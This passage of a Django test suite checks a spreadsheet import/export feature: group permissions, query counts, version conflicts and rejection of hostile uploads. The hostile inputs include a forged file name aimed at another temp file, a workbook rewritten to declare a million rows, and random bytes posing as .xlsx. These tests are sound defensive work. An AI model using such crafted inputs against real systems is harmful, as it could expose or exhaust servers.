    assert client.get(admin_url(Indicator, "export")).status_code == 403
    assert export(client, Indicator, CSV).status_code == 403


def test_administrators_see_import_and_export_buttons(admin_client_for):
    client = admin_client_for("Administrators")

    for model in (Indicator, Measurement, Milestone, BudgetLine):
        page = text(client.get(admin_url(model, "changelist")))
        assert admin_url(model, "import") in page
        assert admin_url(model, "export") in page
        assert client.get(admin_url(model, "import")).status_code == 200
        assert client.get(admin_url(model, "export")).status_code == 200


def test_staff_export_milestones_but_cannot_import_them(admin_client_for, plan):
    MilestoneFactory(project=plan.voices)
    client = admin_client_for("Staff")

    assert len(csv_rows(export(client, Milestone, CSV))) == 1
    assert client.get(admin_url(Milestone, "import")).status_code == 403
    rows = [MILESTONE_HEADERS, ["", "2010-11", "Children's voices", "X", "2011-03-31",
                                "on track", "", "", "0"]]  # fmt: skip
    assert upload(client, Milestone, rows).status_code == 403
    assert Milestone.objects.count() == 1


def test_directors_export_measurements(admin_client_for, plan):
    MeasurementFactory(indicator=plan.kpi1)
    client = admin_client_for("Directors")

    page = text(client.get(admin_url(Measurement, "changelist")))
    assert admin_url(Measurement, "export") in page
    rows = csv_rows(export(client, Measurement, CSV))
    assert [(row["indicator"], row["value"]) for row in rows] == [("KPI1", "4100.0000")]


def test_corporate_services_import_budget_lines_but_not_indicators(admin_client_for, plan):
    client = admin_client_for("Corporate services")

    assert client.get(admin_url(BudgetLine, "import")).status_code == 200
    preview = upload(
        client, BudgetLine, [BUDGET_LINE_HEADERS, ["", "2010-11", "Pay", "", "1", "", ""]]
    )
    assert_preview_only(preview)

    assert admin_url(Indicator, "import") not in text(
        client.get(admin_url(Indicator, "changelist"))
    )
    assert client.get(admin_url(Indicator, "import")).status_code == 403
    row = ["2010-11", "EI1", "Staff turnover", "enabling", "", "", "count", "lower", "total",
           "monthly", "", "", "", "", "", "", "", ""]  # fmt: skip
    assert upload(client, Indicator, [INDICATOR_HEADERS, row]).status_code == 403
    assert not Indicator.objects.filter(ref="EI1").exists()
    # They may export indicators, as the migration grants.
    assert export(client, Indicator, CSV).status_code == 200


def test_a_user_without_export_permission_is_refused_budget_lines(admin_client_for, plan):
    client = admin_client_for("Staff")

    assert client.get(admin_url(BudgetLine, "export")).status_code == 403
    assert export(client, BudgetLine, XLSX).status_code == 403
    assert client.get(admin_url(BudgetLine, "import")).status_code == 403


def test_group_grants_match_the_permissions_migration():
    def can(group, action, model):
        codename = f"{action}_{model._meta.model_name}"
        return Group.objects.get(name=group).permissions.filter(codename=codename).exists()

    assert can("Directors", "import", Measurement)
    assert not can("Directors", "import", Indicator)
    assert can("Corporate services", "import", BudgetLine)
    assert not can("Corporate services", "import", Indicator)
    assert not can("Staff", "export", Indicator)


# ---------------------------------------------------------------------------------------------
# 6. Exports run a fixed number of queries, however many rows
# ---------------------------------------------------------------------------------------------


def build_rows(model, plan, count, offset):
    """`count` rows of `model` in the plan year, each with the relations its export reads."""
    # One user for them all: a related object is still fetched once per row unless the export
    # loads it with the rows.
    entered_by = UserFactory(username="entering")
    for n in range(offset, offset + count):
        if model is Measurement:
            indicator = IndicatorFactory(plan_year=plan.year, ref=f"Q{n}")
            MeasurementFactory(indicator=indicator, entered_by=entered_by)
        elif model is Indicator:
            project = ProjectFactory(plan_year=plan.year, title=f"Query project {n}")
            indicator = IndicatorFactory(
                plan_year=plan.year, ref=f"Q{n}", tier="project", project=project
            )
            indicator.owners.add(plan.policy, plan.services)
        elif model is Milestone:
            project = ProjectFactory(plan_year=plan.year, title=f"Query project {n}")
            MilestoneFactory(project=project)
        elif model is BudgetLine:
            project = ProjectFactory(plan_year=plan.year, title=f"Query project {n}")
            BudgetLineFactory(budget=plan.budget, category=plan.pay, project=project)


@pytest.mark.parametrize("model", [Measurement, Indicator, Milestone, BudgetLine])
@pytest.mark.parametrize("format_class", [CSV, XLSX])
def test_export_queries_do_not_grow_with_rows(
    admin_client_for, plan, django_assert_max_num_queries, model, format_class
):
    client = admin_client_for("Administrators")
    existing = model.objects.count()
    build_rows(model, plan, 5, 0)
    with django_assert_max_num_queries(10) as few:
        response = export(client, model, format_class)
    assert response.status_code == 200

    build_rows(model, plan, 45, 5)
    with django_assert_max_num_queries(10) as many:
        response = export(client, model, format_class)
    assert response.status_code == 200
    assert model.objects.count() == existing + 50

    assert len(many.captured_queries) == len(few.captured_queries)


# ---------------------------------------------------------------------------------------------
# 7. Malformed and hostile files are refused with a message, before anything is read or saved
# ---------------------------------------------------------------------------------------------


def preview_sheet(model, plan, count):
    """A valid sheet of `count` rows of `model`, half changing stored records where it can."""
    if model is Milestone:
        stored = [MilestoneFactory(project=plan.panel, title=f"Stored {n}") for n in range(count)]
        rows = [MILESTONE_HEADERS]
        for n in range(count):
            pk = stored[n].pk if n % 2 else ""
            rows.append([pk, "2010-11", "Young people's panel", f"Step {n}", "2011-03-31",
                         "on track", "", f"Note {n}", "0"])  # fmt: skip
        return rows
    if model is Indicator:
        rows = [INDICATOR_HEADERS]
        for n in range(count):
            ref = "KPI1" if n == 0 else f"N{n}"
            rows.append(["2010-11", ref, f"Indicator {n}", "key", "", "Director of Policy",
                         "count", "higher", "total", "monthly", "100", "", "", "", "", "", "",
                         ""])  # fmt: skip
        return rows
    if model is Measurement:
        months = [datetime.date(2010 + (m + 3) // 12, (m + 3) % 12 + 1, 1) for m in range(12)]
        indicators = [
            IndicatorFactory(plan_year=plan.year, ref=f"M{count}-{n}") for n in range(count)
        ]
        for indicator in indicators:
            indicator.owners.add(plan.policy)  # directors import their own indicators' actuals
        for indicator in indicators[::2]:
            MeasurementFactory(indicator=indicator, period=months[0])
        rows = [MEASUREMENT_HEADERS]
        for indicator in indicators:
            rows.append(
                [
                    "2010-11",
                    indicator.ref,
                    months[0].isoformat(),
                    "12",
                    "",
                    "",
                    "Behind: recovering.",
                ]
            )
        return rows
    projects = [
        ProjectFactory(plan_year=plan.year, title=f"Line project {count}-{n}") for n in range(count)
    ]
    rows = [BUDGET_LINE_HEADERS]
    for n, project in enumerate(projects):
        rows.append(["", "2010-11", "Governance", project.title, f"{n}.50", "", ""])
    return rows


@pytest.mark.parametrize(
    ("model", "group"),
    [
        (Milestone, "Administrators"),
        (Indicator, "Administrators"),
        (Measurement, "Directors"),
        (BudgetLine, "Corporate services"),
    ],
)
def test_the_preview_runs_as_many_queries_for_200_rows_as_for_10(
    admin_client_for, plan, django_assert_max_num_queries, model, group
):
    """Lookups, stored records and uniqueness are fetched once for the sheet, not per row."""
    client = admin_client_for(group)
    few_rows = preview_sheet(model, plan, 10)
    many_rows = preview_sheet(model, plan, 200)
    upload(client, model, few_rows)  # the session and permissions settle

    with django_assert_max_num_queries(30) as few:
        preview = upload(client, model, few_rows)
    assert_preview_only(preview)
    with django_assert_max_num_queries(30) as many:
        preview = upload(client, model, many_rows)
    assert_preview_only(preview)

    assert len(many.captured_queries) == len(few.captured_queries)


def upload_file(client, model, name, content, format_class=XLSX):
    file = SimpleUploadedFile(name, content, content_type=format_class.CONTENT_TYPE)
    return client.post(
        admin_url(model, "import"),
        {"import_file": file, "format": format_index(model, format_class), "resource": "0"},
    )


def file_errors(response):
    """What the import page says about the uploaded file, with nothing offered to confirm."""
    assert response.status_code == 200
    assert "confirm_form" not in response.context
    assert "Confirm import" not in text(response)
    errors = response.context["form"].errors["import_file"]
    assert all(escape(error) in text(response) for error in errors)
    return errors


def xlsx_bytes(rows):
    return xlsx_upload(rows).read()


def rewrite_sheet(workbook, change):
    """A copy of an xlsx workbook (bytes) with its sheet XML passed through `change`."""
    source = zipfile.ZipFile(io.BytesIO(workbook))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as copy:
        for part in source.infolist():
            content = source.read(part.filename)
            if part.filename == "xl/worksheets/sheet1.xml":
                content = change(content)
            copy.writestr(part.filename, content)
    return buffer.getvalue()


@pytest.fixture
def bystander_file():
    """A file in the temporary folder that no import may read or delete."""
    path = Path(tempfile.gettempdir()) / "bystander-not-an-import.csv"
    path.write_text("id,title\n1,Someone else's file\n")
    yield path
    path.unlink(missing_ok=True)


@pytest.fixture
def nothing_written(plan, bystander_file):
    """After the test: no milestone, budget line or preview was saved, no file deleted."""
    milestones, lines = Milestone.objects.count(), BudgetLine.objects.count()
    yield
    assert Milestone.objects.count() == milestones
    assert BudgetLine.objects.count() == lines
    assert not ImportPreview.objects.exists()
    assert bystander_file.exists()


def test_random_bytes_named_xlsx_are_not_a_workbook(admin_client_for, nothing_written):
    client = admin_client_for("Corporate services")
    noise = random.Random(13).randbytes(1600)

    response = upload_file(client, BudgetLine, "budget.xlsx", noise)

    assert file_errors(response) == [
        "This file is not an Excel workbook (.xlsx) or a CSV file. Save it from your "
        "spreadsheet program as an Excel workbook (.xlsx) or as CSV UTF-8, then upload it again."
    ]
    assert "BadZipFile" not in text(response)


def test_a_zip_that_is_not_a_workbook_is_refused(admin_client_for, nothing_written):
    client = admin_client_for("Corporate services")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "Not a spreadsheet")

    response = upload_file(client, BudgetLine, "budget.xlsx", buffer.getvalue())

    assert file_errors(response)[0].startswith(
        "This file is not an Excel workbook (.xlsx) or a CSV file."
    )


def test_a_csv_that_is_not_utf8_names_the_row_and_column_of_the_first_bad_character(
    admin_client_for, nothing_written
):
    client = admin_client_for("Corporate services")
    sheet = "id,plan_year,category,project,amount,description,notes\n"
    sheet += ",2010-11,Pay,,100,Staff costs,\n,2010-11,Pay,,200,Café £5,\n"

    response = upload_file(client, BudgetLine, "budget.csv", sheet.encode("cp1252"), CSV)

    assert file_errors(response) == [
        'Row 3, column F ("description") has a character that is not UTF-8. Save the file as '
        '"CSV UTF-8" from your spreadsheet program, then upload it again.'
    ]


def test_a_workbook_that_declares_a_million_rows_is_refused_before_it_is_read(
    admin_client_for, nothing_written
):
    client = admin_client_for("Corporate services")
    workbook = rewrite_sheet(
        xlsx_bytes([BUDGET_LINE_HEADERS]),
        lambda xml: xml.replace(b'<dimension ref="A1:G1"', b'<dimension ref="A1:G1048576"'),
    )
    assert len(workbook) < 8000

    response = upload_file(client, BudgetLine, "budget.xlsx", workbook)

    assert file_errors(response) == [
        "This sheet has 1,048,575 rows of data; at most 20,000 can be imported at once. "
        "Split it into smaller files."
    ]


def test_a_workbook_with_more_rows_than_it_declares_is_stopped_at_the_limit(
    admin_client_for, nothing_written, settings
):
    settings.IMPORT_MAX_ROWS = 3
    client = admin_client_for("Corporate services")
    rows = [["", "2010-11", "Pay", "", n, "", ""] for n in range(5)]
    workbook = rewrite_sheet(
        xlsx_bytes([BUDGET_LINE_HEADERS, *rows]),
        lambda xml: xml.replace(b'<dimension ref="A1:G6"', b'<dimension ref="A1:G2"'),
    )

    response = upload_file(client, BudgetLine, "budget.xlsx", workbook)

    assert file_errors(response) == [
        "This sheet has more than 3 rows of data; at most 3 can be imported at once. "
        "Split it into smaller files."
    ]


def test_a_csv_with_too_many_rows_is_refused_saying_how_many_it_has(
    admin_client_for, nothing_written, settings
):
    settings.IMPORT_MAX_ROWS = 3
    client = admin_client_for("Corporate services")
    rows = [BUDGET_LINE_HEADERS, *[["", "2010-11", "Pay", "", n, "", ""] for n in range(5)]]

    response = upload(client, BudgetLine, rows)

    assert file_errors(response) == [
        "This sheet has 5 rows of data; at most 3 can be imported at once. "
        "Split it into smaller files."
    ]


def test_an_oversize_file_is_refused_saying_its_size_and_the_limit(
    admin_client_for, nothing_written, settings
):
    settings.IMPORT_MAX_UPLOAD_MB = 1
    client = admin_client_for("Corporate services")
    row = ["", "2010-11", "Pay", "", "1", "x" * 1000, ""]

    response = upload(client, BudgetLine, [BUDGET_LINE_HEADERS] + [row] * 1200)

    assert file_errors(response) == [
        "This file is 1.2 MB; files of at most 1 MB can be imported. Split it into smaller files."
    ]


def test_a_formula_without_a_saved_value_is_refused_naming_its_cell(
    admin_client_for, nothing_written
):
    client = admin_client_for("Corporate services")
    # openpyxl saves a formula without its result, as a program that never calculated would.
    rows = [BUDGET_LINE_HEADERS, [None, "2010-11", "Pay", None, "=1000+500", "Staff", None]]

    response = upload(client, BudgetLine, rows, XLSX)

    assert file_errors(response) == [
        'Row 2, column E ("amount") has a formula whose result was not saved in the file. '
        "Open the file in Excel and save it again (which saves the results), or type the "
        "value in place of the formula."
    ]


def test_a_formula_with_a_saved_value_imports_its_value(admin_client_for, plan):
    client = admin_client_for("Corporate services")
    rows = [BUDGET_LINE_HEADERS, [None, "2010-11", "Pay", None, "=1000+500", "Staff", None]]
    workbook = rewrite_sheet(
        xlsx_bytes(rows),
        saving_result(b"1000+500", b"1500"),
    )

    preview = upload(client, BudgetLine, workbook, XLSX)

    assert_preview_only(preview)
    confirm(client, BudgetLine, preview)
    assert BudgetLine.objects.get().amount == Decimal("1500")


def test_the_same_record_twice_in_one_sheet_is_refused_naming_both_rows(admin_client_for, plan):
    client = admin_client_for("Administrators")
    existing = MilestoneFactory(project=plan.panel, title="Recruit the panel")
    rows = [
        MILESTONE_HEADERS,
        [existing.pk, "2010-11", "Young people's panel", "Recruit the panel", "2010-06-30",
         "done", "2010-06-15", "", "0"],
        ["", "2010-11", "Children's voices", "Publish the report", "2011-03-31", "on track",
         "", "", "0"],
        [existing.pk, "2010-11", "Young people's panel", "Recruit the panel", "2010-06-30",
         "at risk", "", "", "0"],
    ]  # fmt: skip

    preview = upload(client, Milestone, rows)

    assert_refused(preview)
    assert problems(preview) == [
        (4, None, "Rows 2 and 4 are the same milestone. Keep one of them.")
    ]
    assert Milestone.objects.count() == 1
    existing.refresh_from_db()
    assert existing.status == plan_choices.MilestoneStatus.ON_TRACK


def test_a_new_measurement_twice_in_one_sheet_is_refused(admin_client_for, plan):
    client = admin_client_for("Directors")
    rows = [
        MEASUREMENT_HEADERS,
        ["2010-11", "KPI1", "2010-04-01", "4100", "", "", ""],
        ["2010-11", "KPI1", "2010-04-01", "4200", "", "", ""],
    ]

    preview = upload(client, Measurement, rows)

    assert_refused(preview)
    assert (3, None, "Rows 2 and 3 are the same measurement. Keep one of them.") in problems(
        preview
    )
    assert Measurement.objects.count() == 0


# ---------------------------------------------------------------------------------------------
# 8. The confirm step finds its preview by key and user only, and uses it once
# ---------------------------------------------------------------------------------------------

NO_PREVIEW = (
    "There is no import waiting to be confirmed: it has been confirmed already, or it has "
    "expired. Upload the file again to see a new preview."
)
ONE_NEW_LINE = [BUDGET_LINE_HEADERS, ["", "2010-11", "Pay", "", "100", "Staff", ""]]


def confirm_with(client, model, data):
    return client.post(admin_url(model, "process_import"), data, follow=True)


def page_messages(response):
    return [str(message) for message in response.context["messages"]]


def test_the_uploaded_sheet_waits_in_the_database_and_is_used_once(admin_client_for, plan):
    client = admin_client_for("Corporate services")
    preview = upload(client, BudgetLine, ONE_NEW_LINE)
    assert_preview_only(preview)
    waiting = ImportPreview.objects.get()
    assert waiting.user == client.user
    assert list(preview.context["confirm_form"].initial) == ["preview_key"]

    done = confirm(client, BudgetLine, preview)
    assert "Import finished: 1 new, 0 updated" in text(done)
    assert not ImportPreview.objects.exists()

    again = confirm(client, BudgetLine, preview)
    assert again.redirect_chain == [(admin_url(BudgetLine, "import"), 302)]
    assert page_messages(again) == [NO_PREVIEW]
    assert BudgetLine.objects.count() == 1


def test_a_forged_preview_key_or_file_name_reads_and_deletes_nothing(
    admin_client_for, plan, bystander_file
):
    client = admin_client_for("Corporate services")

    for data in (
        {"preview_key": "not-a-key"},
        {"preview_key": bystander_file.name},
        {"import_file_name": str(bystander_file), "original_file_name": "x.csv", "format": "0"},
        {},
    ):
        response = confirm_with(client, BudgetLine, data)
        assert response.redirect_chain == [(admin_url(BudgetLine, "import"), 302)]
        assert page_messages(response) == [NO_PREVIEW]

    assert bystander_file.exists()
    assert BudgetLine.objects.count() == 0


def test_someone_elses_preview_cannot_be_confirmed(admin_client_for, plan, user_in_group):
    client = admin_client_for("Corporate services")
    preview = upload(client, BudgetLine, ONE_NEW_LINE)
    key = preview.context["confirm_form"].initial["preview_key"]
    client.force_login(user_in_group("Corporate services"))

    response = confirm_with(client, BudgetLine, {"preview_key": key})

    assert page_messages(response) == [NO_PREVIEW]
    assert BudgetLine.objects.count() == 0
    assert ImportPreview.objects.filter(key=key).exists()  # still there for its owner


def test_a_stale_preview_is_refused_and_abandoned_ones_are_cleaned_up(
    admin_client_for, plan, settings
):
    client = admin_client_for("Corporate services")
    preview = upload(client, BudgetLine, ONE_NEW_LINE)
    ImportPreview.objects.update(created_at=datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC))

    response = confirm(client, BudgetLine, preview)

    assert page_messages(response) == [
        "This preview has expired, so nothing was imported. Upload the file again to see a new "
        "preview."
    ]
    assert BudgetLine.objects.count() == 0
    assert not ImportPreview.objects.exists()

    # An abandoned preview is deleted by the next upload, and by the management command.
    upload(client, BudgetLine, ONE_NEW_LINE)
    ImportPreview.objects.update(created_at=datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC))
    upload(client, BudgetLine, ONE_NEW_LINE)
    assert ImportPreview.objects.count() == 1
    ImportPreview.objects.update(created_at=datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC))
    call_command("delete_expired_import_previews", stdout=io.StringIO())
    assert not ImportPreview.objects.exists()


def test_the_import_page_states_the_limits_and_the_version_check(admin_client_for, settings):
    settings.IMPORT_MAX_ROWS = 500
    page = text(admin_client_for("Corporate services").get(admin_url(BudgetLine, "import")))

    assert "at most\n    5 MB and 500 rows" in page
    assert "Rows with no version (a sheet made by hand) are not checked" in page


# ---------------------------------------------------------------------------------------------
# 9. An export carries each record's version; an import never overwrites a newer change
# ---------------------------------------------------------------------------------------------


def test_an_import_refuses_rows_whose_record_changed_since_the_export(admin_client_for, plan):
    client = admin_client_for("Administrators")
    changed = MilestoneFactory(project=plan.panel, title="Recruit the panel")
    untouched = MilestoneFactory(project=plan.voices, title="Publish the report")
    exported = {row["id"]: row for row in csv_rows(export(client, Milestone, CSV))}
    assert exported[str(changed.pk)]["version"] == str(changed.history.latest().history_id)

    # Someone else changes a milestone after the export.
    colleague = UserFactory(username="jsmith", first_name="Jane", last_name="Smith")
    changed.status = plan_choices.MilestoneStatus.AT_RISK
    changed._history_user = colleague
    changed.save()
    when = timezone.localtime(changed.history.latest().history_date)

    # The old sheet, with the importer's own edits to both rows.
    rows = [[*MILESTONE_HEADERS, "version"]]
    for milestone in (changed, untouched):
        row = exported[str(milestone.pk)]
        rows.append([*(row[header] for header in MILESTONE_HEADERS), row["version"]])
        rows[-1][MILESTONE_HEADERS.index("commentary")] = "Updated by the importer"

    preview = upload(client, Milestone, rows)

    assert_refused(preview)
    assert problems(preview) == [
        (
            2,
            None,
            f"This milestone was changed by Jane Smith on {when.day} {when:%B %Y at %H:%M}, "
            "after this sheet was exported. Export it again to see that change, then make "
            "yours.",
        )
    ]
    changed.refresh_from_db()
    untouched.refresh_from_db()
    assert changed.status == plan_choices.MilestoneStatus.AT_RISK
    assert changed.commentary != "Updated by the importer"
    assert untouched.commentary != "Updated by the importer"


def test_rows_without_a_version_and_rows_that_change_nothing_are_not_checked(
    admin_client_for, plan
):
    client = admin_client_for("Administrators")
    milestone = MilestoneFactory(project=plan.panel, title="Recruit the panel")
    old_version = milestone.history.latest().history_id
    milestone.status = plan_choices.MilestoneStatus.AT_RISK
    milestone.save()
    as_now = [milestone.pk, "2010-11", "Young people's panel", "Recruit the panel",
              milestone.due_on.isoformat(), "at risk", "", milestone.commentary, "0"]  # fmt: skip

    # The same values as the record now has: nothing of anyone's would be lost.
    preview = upload(client, Milestone, [[*MILESTONE_HEADERS, "version"], [*as_now, old_version]])
    assert_preview_only(preview)
    assert import_types(preview) == ["skip"]

    # A sheet made by hand has no version, so it is not checked.
    hand_made = [*as_now[:5], "done", "2010-06-15", "By hand", "0"]
    preview = upload(client, Milestone, [MILESTONE_HEADERS, hand_made])
    assert_preview_only(preview)
    confirm(client, Milestone, preview)
    milestone.refresh_from_db()
    assert milestone.commentary == "By hand"


@pytest.mark.parametrize("query", ["due_on__gte=notadate", "project__plan_year__id__exact=abc"])
def test_an_export_with_a_bad_filter_is_a_bad_request(admin_client_for, plan, query):
    client = admin_client_for("Administrators")

    assert client.get(f"{admin_url(Milestone, 'export')}?{query}").status_code == 400
    response = client.post(
        f"{admin_url(Milestone, 'export')}?{query}",
        {"format": format_index(Milestone, CSV, export=True), "resource": "0"},
    )
    assert response.status_code == 400


def test_a_long_preview_shows_its_first_rows_and_says_how_many_there_are(admin_client_for, plan):
    client = admin_client_for("Administrators")
    rows = [
        ["", "2010-11", "Children's voices", f"Step {n}", "2011-03-31", "on track", "", "", "0"]
        for n in range(1, 206)
    ]

    preview = upload(client, Milestone, [MILESTONE_HEADERS, *rows])

    assert_preview_only(preview)
    page = text(preview)
    assert "The first 200 of 205 rows." in page
    assert "Step 200<" in page
    assert "Step 201<" not in page
    confirm(client, Milestone, preview)
    assert Milestone.objects.count() == 205


def test_a_long_list_of_bad_rows_shows_the_first_and_says_how_many_there_are(
    admin_client_for, plan
):
    client = admin_client_for("Administrators")
    rows = [
        ["", "2010-11", "No such project", f"Step {n}", "2011-03-31", "on track", "", "", "0"]
        for n in range(1, 206)
    ]

    preview = upload(client, Milestone, [MILESTONE_HEADERS, *rows])

    assert_refused(preview)
    page = text(preview)
    assert "The first 200 of 205 rows with errors." in page
    assert page.count("No project called") == 200
    assert Milestone.objects.count() == 0


# ---------------------------------------------------------------------------------------------
# An actual entered by someone else between the preview and its confirmation
# ---------------------------------------------------------------------------------------------


def test_an_actual_entered_after_the_preview_is_named_and_not_overwritten(admin_client_for, plan):
    client = admin_client_for("Directors")
    rows = [
        MEASUREMENT_HEADERS,
        ["2010-11", "KPI1", "2010-04-01", "4150", "", "", "Counted at the door"],
        ["2010-11", "KPI1", "2010-05-01", "3900", "", "", "Counted at the door"],
    ]
    preview = upload(client, Measurement, rows)
    assert import_types(preview) == ["new", "new"]
    # A colleague enters May's first actual on the indicator's page meanwhile.
    MeasurementFactory(indicator=plan.kpi1, period=datetime.date(2010, 5, 1), value=4000)

    done = confirm(client, Measurement, preview)

    page = html.unescape(text(done))
    assert "Nothing was imported" in page
    assert "Row 3" in page
    assert "The measurement KPI1 May 2010 was entered after this sheet's preview" in page
    assert "Value: 4,000" in page
    # All or nothing: April is not added either, and May keeps the colleague's figure.
    assert [(m.period.month, m.value) for m in Measurement.objects.all()] == [(5, Decimal(4000))]


def test_an_actual_left_alone_since_the_preview_is_updated_as_previewed(admin_client_for, plan):
    MeasurementFactory(indicator=plan.kpi1, period=datetime.date(2010, 4, 1), value=4100)
    client = admin_client_for("Directors")
    rows = [MEASUREMENT_HEADERS, ["2010-11", "KPI1", "2010-04-01", "4150", "", "", "Recount"]]
    preview = upload(client, Measurement, rows)

    done = confirm(client, Measurement, preview)

    assert "Import finished: 0 new, 1 updated" in text(done)
    assert Measurement.objects.get().value == Decimal(4150)


def test_an_actual_entered_at_the_same_moment_as_the_import_is_named_not_a_server_error(
    admin_client_for, plan, monkeypatch
):
    """The import read the stored actuals before the colleague's was written, and wrote its own
    after: the two meet in the database's unique constraint."""
    from core.bulk_import import SheetUniqueness

    client = admin_client_for("Directors")
    rows = [MEASUREMENT_HEADERS, ["2010-11", "KPI1", "2010-05-01", "3900", "", "", "Counted"]]
    preview = upload(client, Measurement, rows)
    read = SheetUniqueness.index

    def read_before_the_colleague_saved(uniqueness, *args, **kwargs):
        found = read(uniqueness, *args, **kwargs)
        if not Measurement.objects.exists():
            MeasurementFactory(indicator=plan.kpi1, period=datetime.date(2010, 5, 1), value=4000)
        return found

    monkeypatch.setattr(SheetUniqueness, "index", read_before_the_colleague_saved)

    done = confirm(client, Measurement, preview)

    page = html.unescape(text(done))
    assert done.status_code == 200
    assert "Nothing was imported" in page
    assert (
        "Row 2: Someone else entered the measurement KPI1 May 2010 while this sheet was being "
        "imported, so nothing was saved over it." in page
    )
    assert "It now says: Value: 4,000" in page
    # (The colleague's actual was written inside the import's own transaction here, so it is
    # rolled back with the import; what matters is that the import's figure is not stored.)
    assert not Measurement.objects.filter(value=3900).exists()


def test_a_confirmed_import_records_each_added_and_changed_actual_in_the_history_by_the_importer(
    admin_client_for, plan
):
    """The history of an import's records is written once every row is saved, in bulk: each
    record still gets its own entry, added or changed, by the person who imported it."""
    kept = MeasurementFactory(indicator=plan.kpi1, period=datetime.date(2010, 4, 1), value=4100)
    client = admin_client_for("Directors")
    rows = [
        MEASUREMENT_HEADERS,
        ["2010-11", "KPI1", "2010-04-01", "4150", "", "", "Recount"],
        ["2010-11", "KPI1", "2010-05-01", "3900", "", "", "Counted"],
    ]

    confirm(client, Measurement, upload(client, Measurement, rows))

    april = kept.history.order_by("history_id")
    assert [(entry.history_type, entry.value) for entry in april] == [
        ("+", Decimal(4100)),
        ("~", Decimal(4150)),
    ]
    assert april.last().history_user == client.user
    may = Measurement.objects.get(period=datetime.date(2010, 5, 1)).history.get()
    assert (may.history_type, may.value, may.history_user) == ("+", Decimal(3900), client.user)


# ---------------------------------------------------------------------------------------------
# 8. A confirmation is validated again, then written in bulk, all or nothing
# ---------------------------------------------------------------------------------------------


def finished(preview):
    """What the confirmation of a preview says once every row it adds or changes is saved."""
    types = import_types(preview)
    return f"Import finished: {types.count('new')} new, {types.count('update')} updated"


@pytest.mark.parametrize(
    ("model", "group"),
    [
        (Milestone, "Administrators"),
        (Measurement, "Directors"),
        (BudgetLine, "Corporate services"),
    ],
)
def test_the_confirmation_runs_as_many_queries_for_200_rows_as_for_10(
    admin_client_for, plan, django_assert_max_num_queries, model, group
):
    """Each row is validated against what was fetched once for the sheet, and the rows are
    written a batch at a time with their history, not a row at a time. (An indicator's rows
    are still saved one by one: its owners are set once it is saved; a plan has tens.)"""
    client = admin_client_for(group)
    few_rows = preview_sheet(model, plan, 10)
    many_rows = preview_sheet(model, plan, 200)
    confirm(client, model, upload(client, model, preview_sheet(model, plan, 2)))  # settle
    few_preview = upload(client, model, few_rows)
    many_preview = upload(client, model, many_rows)

    with django_assert_max_num_queries(60) as few:
        done = confirm(client, model, few_preview)
    assert finished(few_preview) in text(done)
    with django_assert_max_num_queries(60) as many:
        done = confirm(client, model, many_preview)
    assert finished(many_preview) in text(done)

    assert len(many.captured_queries) == len(few.captured_queries)


def test_a_confirmed_import_records_each_added_and_changed_milestone_in_the_history(
    admin_client_for, plan
):
    """One history entry per row that adds or changes a milestone, by the importer; none for a
    row that changes nothing."""
    changed = MilestoneFactory(project=plan.panel, title="Recruit the panel")
    untouched = MilestoneFactory(project=plan.panel, title="Train the panel")
    client = admin_client_for("Administrators")
    rows = [
        MILESTONE_HEADERS,
        [changed.pk, "2010-11", "Young people's panel", "Recruit the panel", "2010-06-30",
         "at risk", "", "Two schools withdrew", "0"],
        [untouched.pk, "2010-11", "Young people's panel", "Train the panel",
         untouched.due_on.isoformat(), untouched.status, "", untouched.commentary, "0"],
        ["", "2010-11", "Children's voices", "Publish the report", "2011-03-31", "on track",
         "", "", "0"],
        ["", "2010-11", "Children's voices", "Launch the report", "2011-03-31", "on track",
         "", "", "0"],
    ]  # fmt: skip

    done = confirm(client, Milestone, upload(client, Milestone, rows))

    assert "Import finished: 2 new, 1 updated, 0 deleted and 1 skipped" in text(done)
    history = {
        (entry.title, entry.history_type, entry.status, entry.history_user)
        for entry in Milestone.history.filter(history_user=client.user)
    }
    assert history == {
        ("Recruit the panel", "~", plan_choices.MilestoneStatus.AT_RISK, client.user),
        ("Publish the report", "+", plan_choices.MilestoneStatus.ON_TRACK, client.user),
        ("Launch the report", "+", plan_choices.MilestoneStatus.ON_TRACK, client.user),
    }
    assert untouched.history.count() == 1  # only its creation
    changed.refresh_from_db()
    assert changed.commentary == "Two schools withdrew"
    assert changed.updated_at > untouched.updated_at
    # Each added milestone is one record, with its history entry pointing at it.
    for title in ("Publish the report", "Launch the report"):
        added = Milestone.objects.get(title=title)
        assert [entry.history_type for entry in added.history.all()] == ["+"]


def test_a_quarter_signed_off_after_the_preview_refuses_the_row_and_saves_nothing(
    admin_client_for, plan
):
    """The confirmation applies the rules to every row as the records now are: here, a
    milestone completed in quarter 1, which was signed off after the preview."""
    recruit = MilestoneFactory(project=plan.panel, title="Recruit the panel")
    client = admin_client_for("Administrators")
    rows = [
        MILESTONE_HEADERS,
        ["", "2010-11", "Children's voices", "Publish the report", "2011-03-31", "on track",
         "", "", "0"],
        [recruit.pk, "2010-11", "Young people's panel", "Recruit the panel", "2010-06-30",
         "done", "2010-06-15", "Recruited 24 members", "0"],
    ]  # fmt: skip
    preview = upload(client, Milestone, rows)
    assert_preview_only(preview)
    QuarterSignOffFactory(plan_year=plan.year, quarter=1)

    done = confirm(client, Milestone, preview)

    page = html.unescape(text(done))
    assert "Nothing was imported" in page
    assert 'Row 3, column G ("completed_on"): Quarter 1 of 2010-11 is signed off' in page
    assert not Milestone.objects.filter(title="Publish the report").exists()
    recruit.refresh_from_db()
    assert recruit.status == plan_choices.MilestoneStatus.ON_TRACK
    assert recruit.history.count() == 1


def test_a_milestone_deleted_while_the_confirmation_is_written_is_named_and_nothing_is_saved(
    admin_client_for, plan, monkeypatch
):
    """The rows are written a batch at a time (two here); the database finds the third batch's
    milestone gone, so that batch is written again a row at a time to name the row, and every
    batch before it is rolled back."""
    import core.bulk_import
    import core.spreadsheets.resources
    from core.spreadsheets.resources import FormulaSafeResource

    monkeypatch.setattr(core.bulk_import, "WRITE_BATCH", 2)
    monkeypatch.setattr(core.spreadsheets.resources, "WRITE_BATCH", 2)
    stored = [MilestoneFactory(project=plan.panel, title=f"Step {n}") for n in range(6)]
    client = admin_client_for("Administrators")
    rows = [MILESTONE_HEADERS] + [
